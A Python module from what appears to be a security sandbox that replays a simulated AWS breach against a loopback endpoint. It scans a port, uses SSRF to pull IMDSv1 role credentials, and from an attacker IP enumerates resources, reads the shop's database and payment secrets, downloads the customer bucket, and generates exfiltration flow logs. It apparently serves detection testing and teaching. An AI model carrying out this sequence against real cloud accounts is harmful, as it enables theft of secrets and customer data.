"""A web server is talked into fetching its own credentials, and somebody uses them from far away.

`web-2` still answers version 1 of the instance metadata service. After a scan, a request through the shop (server-side
request forgery) has it fetch the credentials of its role. While the server's own agent goes on calling AWS with them,
they are used from an address outside: to look around, to read the shop's secrets, to list and fetch objects.

Techniques: T1595.001 scanning, T1190 exploit public-facing application, T1552.005 cloud instance metadata API,
T1078.004 cloud accounts, T1580 and T1619 discovery, T1555.006 cloud secrets management stores, T1530 data from cloud
storage, T1048 exfiltration.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from nephoscope.sandbox import flow_logs
from nephoscope.sandbox.attack import Attack
from nephoscope.sandbox.company.reach import session_keys
from nephoscope.sandbox.control import steer

if TYPE_CHECKING:
    from collections.abc import Callable

    from nephoscope.sandbox.company import Company

ATTACKER_IP = "45.155.205.99"
SERVER_IP = "3.225.16.109"  # from which the web server itself reaches AWS
AGENT = "aws-sdk-go/1.55.5 (go1.22.11; linux; amd64) amazon-ssm-agent/3.3.1611.0"
CLIENT = "aws-cli/2.31.3 md/awscrt#0.27.6 ua/2.1 os/linux#6.12.0 md/arch#x86_64 lang/python#3.13.7"
SCANNED = (21, 22, 23, 25, 80, 110, 143, 443, 445, 993, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 27017)


def play(
    endpoint_url: str, *, company: Company, pace_s: float = 0.0, tell: Callable[[str], None] | None = None
) -> list[str]:
    """Play the incident; returns what was done, step by step.

    pace_s: seconds between steps. Raises ConfigError for an endpoint that is not on the loopback, StoreError for one
    that has no metadata service: that of the sandbox is needed.
    """
    attack = Attack(endpoint_url, pace_s, tell)
    server = company.machines["production/us-east-1/web-2"]
    attack.traffic(flow_logs.port_scan(server.interface_id, ATTACKER_IP, SCANNED))
    forged = steer(attack.endpoint_url, "instance-credentials", instance_id=server.instance_id)
    attack.note("GET /latest/meta-data/iam/security-credentials/web-server")
    attack.use(session_keys(forged), SERVER_IP, AGENT)
    attack.call("ssm", "describe_instance_information")
    attack.use(session_keys(forged), ATTACKER_IP, CLIENT)
    look_around(attack)
    take(attack, company)
    attack.traffic(flow_logs.exfiltration(server.interface_id, ATTACKER_IP, 48_000_000))
    return attack.done


def look_around(attack: Attack) -> None:
    """Whose credentials are these, and what do they reach?"""
    attack.call("sts", "get_caller_identity")
    attack.call("iam", "list_attached_role_policies", RoleName="web-server")
    attack.call("iam", "list_users")
    attack.call("ec2", "describe_instances")
    attack.call("ec2", "describe_vpcs")
    attack.call("rds", "describe_db_instances")
    attack.call("s3", "list_buckets")
    attack.call("secretsmanager", "list_secrets")


def take(attack: Attack, company: Company) -> None:
    """The shop's secrets, and the customers' data."""
    for name in ("shop/database", "shop/payments"):
        attack.call("secretsmanager", "get_secret_value", SecretId=name)
    listed = attack.call("s3", "list_objects_v2", Bucket=company.customer_bucket)
    for each in (listed or {}).get("Contents", []):
        attack.call("s3", "get_object", Bucket=company.customer_bucket, Key=each["Key"])
